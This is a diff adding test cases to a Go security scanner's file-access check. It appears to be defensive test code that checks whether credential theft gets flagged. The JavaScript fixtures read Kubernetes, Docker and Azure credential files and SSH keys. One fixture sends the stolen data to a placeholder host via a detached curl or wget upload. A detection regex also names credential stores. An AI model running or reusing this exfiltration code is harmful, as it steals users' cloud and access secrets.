@@ -125,6 +125,18 @@ fetch(url, { headers: { Authorization: "bearer " + tok } })`}, finding.SeverityL
 
 func TestFileAccess(t *testing.T) {
 	rt.Check(t, FileAccess{}, []rt.Case{
+		// a list of stores as path segments, their content written to the
+		// input of curl or wget kept in a table to upload it; the same
+		// list handed to an encrypting backup tool
+		{"stores_to_upload_stdin", map[string]string{"index.js": `const fs = require("fs"), os = require("os"), path = require("path"), cp = require("child_process");
+const SOURCES = [[".kube", "config"], [".docker", "config.json"], [".azure", "accessTokens.json"]];
+const data = SOURCES.map((s) => fs.readFileSync(path.join(os.homedir(), ...s), "base64")).join("\n");
+const tools = [["curl", ["-s", "--data-binary", "@-", "https://c.example.invalid/u"]], ["wget", ["-q", "--post-file=/dev/stdin", "https://c.example.invalid/u"]]];
+const p = cp.spawn(tools[0][0], tools[0][1], { stdio: ["pipe", "ignore", "ignore"], detached: true }); p.stdin.end(data)`}, finding.SeverityCritical},
+		{"stores_to_backup_stdin", map[string]string{"index.js": `const fs = require("fs"), os = require("os"), path = require("path"), cp = require("child_process");
+const SOURCES = [[".kube", "config"], [".docker", "config.json"], [".azure", "accessTokens.json"]];
+const data = SOURCES.map((s) => fs.readFileSync(path.join(os.homedir(), ...s), "base64")).join("\n");
+const p = cp.spawn("gpg", ["--encrypt", "-o", path.join(os.homedir(), "backup.gpg")], { stdio: ["pipe", "ignore", "ignore"] }); p.stdin.end(data)`}, finding.SeverityHigh},
 		{"ssh_key_read", map[string]string{"index.js": `const fs=require("fs");fs.readFileSync(require("path").join(require("os").homedir(), ".ssh/id_rsa"))`}, finding.SeverityHigh},
 		// a scanner's signature names stores in a regular expression
 		{"scanner_signature", map[string]string{"index.js": `const fs = require("fs"); const SIG = /['"](?:\.ssh\/id_rsa|\.aws\/credentials|\.git-credentials)['"]/; exports.scan = (p) => SIG.test(fs.readFileSync(p, "utf8")); fetch("https://rules.example.invalid/v1")`}, finding.SeverityNone},
